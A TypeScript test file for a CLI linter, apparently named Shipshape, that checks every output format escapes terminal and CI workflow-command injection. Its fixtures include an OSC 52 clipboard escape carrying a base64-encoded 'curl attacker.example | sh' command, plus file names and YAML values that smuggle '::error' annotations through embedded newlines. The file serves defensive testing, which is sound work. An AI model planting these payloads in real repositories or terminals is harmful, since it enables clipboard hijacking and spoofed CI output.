// What a hostile repository can put in front of a terminal or a CI runner through Shipshape's
// output: a YAML string with a newline and a workflow command, a file named with one, and ESC/OSC 52
// bytes in a Dockerfile. Every format is checked: no line may start with `::` except the github
// formatter's own annotations, and no control character reaches the output raw.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  jsonTerminalSafe,
  terminalSafe,
  terminalSafeFrame,
  terminalSafeLines,
  terminalSafePath,
} from '../../server/src/cli/terminal-safe';
import { prepareCli, runCli } from '../setup/run-cli';

const OSC52 = '\u001b]52;c;Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=\u0007';
// C1 CSI: JSON.stringify leaves it raw, so JSON output needs its own escaping.
const CSI = '\u009b';
const NEWLINE_NAME = 'Dockerfile.x\n::error title=x::injected';
const COLON_NAME = '::warning::name.Dockerfile';

/** Control characters a terminal acts on; the CLI's own colours are off (NO_COLOR). */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const OWN_ANNOTATION = /^::(error|warning|notice) file=[^:]*::/;

describe('terminal and workflow-command injection through CLI output', function () {
  this.timeout(60_000);
  let root: string;

  before(function () {
    prepareCli();
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-injection-'));
    fs.mkdirSync(path.join(root, '.git'));
    fs.writeFileSync(
      path.join(root, 'compose.yaml'),
      'services:\n  web:\n    image: nginx:1.27\n    user: "root\\n::error::second injection"\n    cap_drop: [ALL]\n',
    );
    fs.writeFileSync(path.join(root, NEWLINE_NAME), 'FROM ubuntu:22.04\nCMD ["x"]\n');
    fs.writeFileSync(path.join(root, COLON_NAME), 'FROM ubuntu:22.04\nCMD ["x"]\n');
    fs.writeFileSync(path.join(root, 'Dockerfile'), `FROM alpine:3.20\nFOO${OSC52}X${CSI}31m \u001b[2J\nCMD ["x"]\n`);
  });
  after(() => root && fs.rmSync(root, { recursive: true, force: true }));

  function run(...args: string[]) {
    // In process in `npm test`, as `node dist/cli.js` in `npm run test:integration` (run-cli.ts).
    const result = runCli(root, ['lint', ...args, '.'], { ...process.env, NO_COLOR: '1' });
    return { code: result.code, output: result.stdout + result.stderr };
  }

  function assertInert(format: string, output: string, ownAnnotations = false): void {
    for (const line of output.split(/\r\n|\n|\r/)) {
      assert.doesNotMatch(line, RAW_CONTROL, `${format}: ${JSON.stringify(line)}`);
      if (line.startsWith('::')) assert.ok(ownAnnotations && OWN_ANNOTATION.test(line), `${format}: ${JSON.stringify(line)}`);
    }
  }

  for (const format of ['text', 'compact', 'json', 'sarif', 'github', 'gitlab', 'junit', 'checkstyle', 'rdjson']) {
    it(`--format ${format}`, () => {
      const { code, output } = run('--format', format);
      assert.ok(code === 0 || code === 1, output);
      // Each planted file is reported, so each injection reached the formatter.
      assert.match(output, /second injection/);
      assert.match(output, /injected/);
      assert.match(output, /name\.Dockerfile/);
      assertInert(format, output, format === 'github');
    });
  }

  it('--fix-dry-run diff headers and lines', () => {
    const { output } = run('--fix-dry-run', '--unsafe-fixes');
    assert.match(output, /^--- a\/Dockerfile\.x\\n::error title=x::injected/m);
    assertInert('diff', output);
  });

  it('text output shows what it escaped', () => {
    const { output } = run('--format', 'text');
    assert.match(output, /root\\n::error::second injection/);
    assert.match(output, /^Dockerfile\.x\\n::error title=x::injected:1:1 /m);
    assert.match(output, /^\.\/::warning::name\.Dockerfile:1:1 /m);
    assert.match(output, /\\x1b\]52;c;/, 'the message shows the OSC 52 escape as text');
    assert.match(output, /␛\]52;c;/, 'the code frame shows ESC as a same-width picture');
  });
});

describe('terminal-safe', () => {
  it('escapes C0, DEL, C1, line separators and bidi controls, and keeps tabs', () => {
    assert.equal(
      terminalSafe('a\nb\rc\u001b[31md\u007f\u009b\u2028\u202e\te'),
      'a\\nb\\rc\\x1b[31md\\x7f\\u009b\\u2028\\u202e\te',
    );
  });
  it('keeps a path from starting with a colon', () => {
    assert.equal(terminalSafePath('::warning::x'), './::warning::x');
    assert.equal(terminalSafePath('a::b'), 'a::b');
  });
  it('keeps code frame columns', () => {
    const line = 'FOO \u001b]52\u0007 x';
    assert.equal(terminalSafeFrame(line).length, line.length);
    assert.equal(terminalSafeFrame(line), 'FOO ␛]52␇ x');
  });
  it('escapes the controls JSON.stringify leaves raw, without changing the data', () => {
    const data = { message: `a${CSI}b\u2028c\u007fd\u202e`, nested: [`\u0085`] };
    const safe = jsonTerminalSafe(JSON.stringify(data, null, 2));
    assert.doesNotMatch(safe, /[\u007f-\u009f\u2028\u202e]/);
    assert.deepEqual(JSON.parse(safe), data);
  });
  it('keeps meant line breaks and CRLF endings in multi-line text', () => {
    assert.equal(terminalSafeLines('a\r\nb\u001bc\nd\re\n'), 'a\r\nb\\x1bc\nd\\re\n');
  });
});
